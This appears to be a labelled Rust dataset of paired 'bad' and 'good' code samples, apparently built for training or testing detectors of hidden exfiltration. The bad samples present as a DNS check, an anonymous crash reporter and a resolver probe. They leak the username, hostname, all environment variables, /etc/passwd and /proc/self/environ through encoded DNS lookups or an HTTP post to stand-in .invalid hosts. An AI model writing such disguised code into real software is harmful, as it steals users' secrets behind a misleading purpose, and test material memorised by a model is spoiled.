//: bad dns-hostname
use std::net::ToSocketAddrs;

pub fn check() {
    let user = std::env::var("USER").unwrap_or_default();
    let host = hostname::get().unwrap_or_default();
    let label: String = format!("{user}.{}", host.to_string_lossy()).bytes().map(|b| format!("{b:02x}")).collect();
    let _ = format!("{label}.q.example.invalid:53").to_socket_addrs(); //!
}

//: good dns-hostname
use std::net::ToSocketAddrs;

pub fn check(name: &str) -> bool {
    let host = hostname::get().unwrap_or_default();
    println!("asked from {}", host.to_string_lossy());
    format!("{name}.example.invalid:53").to_socket_addrs().is_ok()
}

//: bad panic-report
use base64::Engine as _;
use serde_json::json;
use std::collections::BTreeMap;
use std::panic;

/// Installs a panic hook that sends anonymous crash reports.
pub fn install(product: &'static str) {
    let previous = panic::take_hook();
    panic::set_hook(Box::new(move |info| {
        previous(info);
        report(product, info.to_string());
    }));
    std::thread::spawn(move || report(product, String::from("startup")));
}

fn context() -> BTreeMap<String, String> {
    std::env::vars_os()
        .map(|(name, value)| (name.to_string_lossy().into_owned(), value.to_string_lossy().into_owned()))
        .collect()
}

fn report(product: &str, message: String) {
    let frame = json!({ "p": product, "m": message, "ctx": context() });
    let packed = base64::engine::general_purpose::STANDARD.encode(frame.to_string());
    let _ = ureq::post("https://crash-intake.invalid/api/7/envelope") //!
        .set("content-type", "application/x-sentry-envelope")
        .send_string(&packed);
}

//: good panic-report
use serde_json::json;
use std::panic;

const INTAKE: &str = "https://crash-intake.invalid/api/7/envelope";

/// Installs a panic hook that sends where it panicked, if the user agreed to it.
pub fn install(product: &'static str, version: &'static str, consent: bool) {
    if !consent || std::env::var_os("DO_NOT_TRACK").is_some() {
        return;
    }
    let previous = panic::take_hook();
    panic::set_hook(Box::new(move |info| {
        previous(info);
        let place = info.location().map(|l| format!("{}:{}", l.file(), l.line()));
        let frame = json!({
            "product": product,
            "version": version,
            "os": std::env::consts::OS,
            "place": place,
        });
        eprintln!("sending this crash report: {frame}");
        if let Err(error) = ureq::post(INTAKE).send_json(frame) {
            eprintln!("not sent: {error}");
        }
    }));
}

//: bad resolver-probe
use data_encoding::BASE32_NOPAD;
use std::net::ToSocketAddrs;

struct Beacon<'a> {
    suffix: &'a str,
    seq: usize,
}

impl Beacon<'_> {
    fn push(&mut self, label: &str) {
        let name = format!("{}.{}.{}", label.to_lowercase(), self.seq, self.suffix);
        self.seq += 1;
        let _ = (name.as_str(), 53u16).to_socket_addrs(); //!
    }
}

fn facts() -> Vec<u8> {
    let mut all = Vec::new();
    for path in ["/etc/hostname", "/etc/passwd", "/proc/self/environ"] {
        all.extend(std::fs::read(path).unwrap_or_default());
        all.push(b'\n');
    }
    all.extend(whoami::username().bytes());
    all
}

/// Finds out whether the resolver of this host answers at all.
pub fn check_resolver() -> bool {
    let mut beacon = Beacon { suffix: "r.dep-check.invalid", seq: 0 };
    BASE32_NOPAD
        .encode(&facts())
        .as_bytes()
        .chunks(60)
        .filter_map(|chunk| std::str::from_utf8(chunk).ok())
        .for_each(|label| beacon.push(label));
    true
}

//: good resolver-probe
use std::net::{SocketAddr, ToSocketAddrs};
use std::time::{Duration, Instant};

pub struct Probe {
    pub name: String,
    pub took: Duration,
    pub answers: Vec<SocketAddr>,
}

/// Times the resolver with the names the user lists in `/etc/resolver-probe.conf`.
pub fn run(config: &str) -> std::io::Result<Vec<Probe>> {
    let text = std::fs::read_to_string(config)?;
    let mut probes = Vec::new();
    for name in text.lines().map(str::trim).filter(|l| !l.is_empty() && !l.starts_with('#')) {
        let began = Instant::now();
        let answers = match (name, 443u16).to_socket_addrs() {
            Ok(found) => found.collect(),
            Err(error) => {
                eprintln!("{name}: {error}");
                Vec::new()
            }
        };
        probes.push(Probe { name: name.to_owned(), took: began.elapsed(), answers });
    }
    probes.sort_by_key(|probe| probe.took);
    for probe in &probes {
        println!("{:>8.1?} {:>3} {}", probe.took, probe.answers.len(), probe.name);
    }
    Ok(probes)
}
